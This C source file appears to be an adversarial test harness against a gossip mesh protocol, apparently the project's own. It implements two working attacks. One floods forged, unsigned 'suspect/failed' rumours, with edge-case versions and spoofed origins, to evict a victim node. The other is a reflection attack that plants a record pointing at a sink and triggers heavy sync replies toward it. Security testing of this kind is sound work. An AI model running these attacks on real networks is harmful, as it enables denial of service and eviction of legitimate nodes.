// SPDX-License-Identifier: MIT
/*
 * A member's lies. Liveness rumours are unsigned, so a member can claim
 * anything about anyone: `evict` throws every variant of "X is suspect /
 * failed" at the mesh, with versions at and past the 64-bit edge, at the
 * current version, and from forged origins. `reflect` joins with a
 * record whose endpoint is a sink, then asks every member for sync
 * answers, which (before the fix) all land on the sink.
 */
#include <sodium.h>
#include <stdio.h>
#include <string.h>

#include "att.h"

/* Encodes as msgpack uint64 (above 2^32) yet stays below any version cap. */
#define MARKER 0x3a5a5a5a5a5a5a5aULL

static const uint64_t huge[] = {
	UINT64_MAX - 1, UINT64_MAX, (1ULL << 62) + 1, 1ULL << 63, UINT64_MAX - 2,
	(1ULL << 62) + 1000,
};
enum { N_HUGE = sizeof(huge) / sizeof(huge[0]) };

static void rumor(struct wire_msg *m, const uint8_t subject[static WIRE_ID_LEN], uint64_t version,
		  uint8_t state, const uint8_t origin[static WIRE_SHORT_ID_LEN])
{
	struct wire_rumor *r = &m->rumor[m->n_rumors++];

	memcpy(r->subject, subject, WIRE_ID_LEN);
	r->version = version;
	r->state = state;
	memcpy(r->origin, origin, WIRE_SHORT_ID_LEN);
}

/* One rumour at an arbitrary (maybe invalid) version, sent as RECORDS. */
static void send_rumor(struct att *a, const struct wire_addr *to, const uint8_t *subject,
		       uint64_t version, uint8_t state, const uint8_t *origin)
{
	struct wire_msg m;

	msg_init(&m, WIRE_RECORDS, a->idn.id);
	rumor(&m, subject, MARKER, state, origin);
	att_send_patched(a, to, &m, MARKER, version);
}

/* Origins to claim: every member we know but the subject, and ourselves. */
static int origins(const struct att *a, const uint8_t *subject, const uint8_t *out[ATT_MAX_SEEN + 1])
{
	int n = 0;

	for (int i = 0; i < a->n_seen; i++)
		if (memcmp(a->seen[i].id, subject, WIRE_ID_LEN) != 0)
			out[n++] = a->seen[i].id;
	out[n++] = a->idn.id;
	return n;
}

int cmd_evict(const struct att_opts *o)
{
	static struct att a;
	uint8_t victim[WIRE_ID_LEN];
	const uint8_t *orig[ATT_MAX_SEEN + 1];
	long attempts = o->count > 0 ? o->count : 100;
	long wait = o->interval_ms > 0 ? o->interval_ms : 80;
	uint64_t max_seen = 0;

	if (!o->n_nodes || !o->key_file)
		att_die("evict needs --key and --node");
	att_parse_id(victim, o->victim_id);
	att_open(&a, o->bind, o->key_file);
	att_identity(&a, o->name ? o->name : "adv-evict", o->endpoint);
	if (!att_join(&a, o->node, o->n_nodes, 10))
		att_die("evict: no JOIN_ACK from any node");
	att_pull(&a, &o->node[0], 300);
	for (long i = 0; i < attempts; i++) {
		const struct att_seen *v;
		struct wire_addr vaddr;
		uint64_t cur, h = huge[i % N_HUGE];
		int no = origins(&a, victim, orig);
		const uint8_t *og = orig[i % no];
		struct wire_msg m;

		att_pull(&a, &o->node[i % o->n_nodes], wait);
		v = att_seen_find(&a, victim);
		if (!v || !v->gossip.family)
			att_die("evict: the mesh never told us the victim's record");
		vaddr = v->gossip;
		/* 1: make the victim refute at the edge of the version space. */
		send_rumor(&a, &vaddr, victim, h - 1, WIRE_LIVE_SUSPECT, og);
		att_poll(&a, wait);
		/* 2: declare the version it (maybe) signed failed, at another node. */
		for (int k = 0; k < o->n_nodes; k++) {
			const struct wire_addr *to = &o->node[(i + k) % o->n_nodes];

			if (wire_addr_equal(to, &vaddr))
				continue;
			send_rumor(&a, to, victim, h, WIRE_LIVE_FAILED, og);
			v = att_seen_find(&a, victim);
			if (v->version != h)
				send_rumor(&a, to, victim, v->version, WIRE_LIVE_FAILED, og);
			break;
		}
		/* 3: plain hearsay at the current version, to everyone, from
		 * several claimed origins at once (as if confirmed). */
		v = att_seen_find(&a, victim);
		cur = v->version;
		if (cur > max_seen)
			max_seen = cur;
		msg_init(&m, WIRE_RECORDS, a.idn.id);
		for (int k = 0; k < no && m.n_rumors < WIRE_MAX_RUMORS - 2; k++)
			rumor(&m, victim, cur, WIRE_LIVE_FAILED, orig[(i + k) % no]);
		rumor(&m, victim, cur, WIRE_LIVE_SUSPECT, og);
		rumor(&m, victim, cur + 1, WIRE_LIVE_FAILED, og);
		for (int k = 0; k < o->n_nodes; k++)
			att_send(&a, &o->node[k], &m);
		att_poll(&a, 10);
	}
	att_report("attack=rumours label=%s attempts=%ld datagrams=%llu bytes=%llu "
		   "victim_max_version_seen=%llu acks_sent=%llu",
		   o->name ? o->name : "adv-evict", attempts, (unsigned long long)a.sent_dgrams,
		   (unsigned long long)a.sent_bytes, (unsigned long long)max_seen, (unsigned long long)a.acks_sent);
	return 0;
}

/* A record as large as the format allows, with an address in the prefix. */
static void fat_record(struct wire_record *r, const struct identity *idn, long i,
		       const struct wire_prefix *prefix)
{
	memset(r, 0, sizeof(*r));
	memcpy(r->id, idn->id, WIRE_ID_LEN);
	r->version = 1;
	snprintf(r->name, sizeof(r->name), "fat-%04ld-%054d", i, 0);
	r->n_overlay = 1;
	r->overlay[0] = *prefix;
	r->overlay[0].ip[2] = (uint8_t)(200 + i / 250);
	r->overlay[0].ip[3] = (uint8_t)(1 + i % 250);
	r->flags = WIRE_REC_ADDR_PINNED;
	r->n_endpoints = 2;
	wire_addr_parse(&r->endpoint[0], "[fd00:dead:beef:cafe:1234:5678:9abc:def0]:51820");
	r->endpoint[0].ip[15] = (uint8_t)i;
	r->endpoint[1] = r->endpoint[0];
	r->endpoint[1].ip[14] = 1;
	r->gossip_port = 51821;
	r->n_tags = WIRE_MAX_TAGS;
	for (int t = 0; t < WIRE_MAX_TAGS; t++) {
		snprintf(r->tag[t].key, sizeof(r->tag[t].key), "k%d%013d", t, 0);
		snprintf(r->tag[t].val, sizeof(r->tag[t].val), "%031d", t);
	}
	if (record_sign(r, idn) < 0)
		att_die("record_sign");
}

/* Send records, as many per RECORDS datagram as fit. */
static void send_records(struct att *a, const struct wire_addr *to, const struct wire_record *r,
			 int n)
{
	struct wire_msg m;
	int size;

	msg_init(&m, WIRE_RECORDS, a->idn.id);
	size = msg_encoded_size(&m);
	for (int i = 0; i < n; i++) {
		int cost = msg_record_cost(&r[i]);

		if (m.n_records == WIRE_MAX_RECORDS || size + cost > WIRE_MAX_PLAINTEXT) {
			att_send(a, to, &m);
			msg_init(&m, WIRE_RECORDS, a->idn.id);
			size = msg_encoded_size(&m);
		}
		m.record[m.n_records++] = r[i];
		size += cost;
	}
	if (m.n_records)
		att_send(a, to, &m);
}

enum { FAT = 63 };

int cmd_reflect(const struct att_opts *o)
{
	static struct att a;
	static struct wire_record recs[FAT + 1];
	struct wire_prefix prefix;
	long requests = o->count > 0 ? o->count : 800;
	uint64_t setup_bytes;

	if (!o->n_nodes || !o->key_file || !o->sink || !o->prefix)
		att_die("reflect needs --key, --node, --sink and --prefix");
	if (wire_prefix_parse(&prefix, o->prefix) < 0 || prefix.family != WIRE_AF_INET)
		att_die("bad --prefix %s", o->prefix);
	att_open(&a, o->bind, o->key_file);
	/* Our signed word: "reach me at the sink". */
	att_identity(&a, o->name ? o->name : "adv-reflect", o->sink);
	recs[0] = a.rec;
	/* Large records of identities we made, so every push is heavy. */
	for (int i = 0; i < FAT; i++) {
		struct identity idn;

		if (identity_generate(&idn) < 0)
			att_die("identity_generate");
		fat_record(&recs[1 + i], &idn, i, &prefix);
		identity_wipe(&idn);
	}
	for (int k = 0; k < o->n_nodes; k++)
		send_records(&a, &o->node[k], recs, FAT + 1);
	/* Let the mesh spread them before asking. */
	att_sleep_ms(3000);
	setup_bytes = a.sent_bytes;
	for (long i = 0; i < requests; i++) {
		const struct wire_addr *to = &o->node[(i / 4) % o->n_nodes];
		struct wire_msg m;

		switch (i % 4) {
		case 0:   /* empty root listing: "push me everything" */
			msg_init(&m, WIRE_SYNC_ENTRIES, a.idn.id);
			break;
		case 1:   /* all 16 root buckets empty */
			msg_init(&m, WIRE_SYNC_DIGEST, a.idn.id);
			m.n_buckets = WIRE_SYNC_FANOUT;
			break;
		case 2:   /* a summary that differs: answered with 16 buckets */
			msg_init(&m, WIRE_SYNC_DIGEST, a.idn.id);
			m.n_buckets = 1;
			randombytes_buf(&m.bucket[0].hash, sizeof(m.bucket[0].hash));
			m.bucket[0].count = 1;
			break;
		default:  /* a want list naming the fat records at version 0 */
			msg_init(&m, WIRE_SYNC_ENTRIES, a.idn.id);
			m.sync_flags = WIRE_SYNC_REPLY;
			for (int k = 0; k < FAT && m.n_entries < WIRE_MAX_ENTRIES; k++)
				memcpy(m.entry[m.n_entries++].id, recs[1 + k].id, WIRE_SHORT_ID_LEN);
			break;
		}
		att_send(&a, to, &m);
		att_sleep_ms(2);
	}
	att_report("attack=reflection requests=%ld attacker_bytes=%llu attacker_datagrams=%llu "
		   "setup_bytes=%llu",
		   requests, (unsigned long long)a.sent_bytes, (unsigned long long)a.sent_dgrams,
		   (unsigned long long)setup_bytes);
	return 0;
}
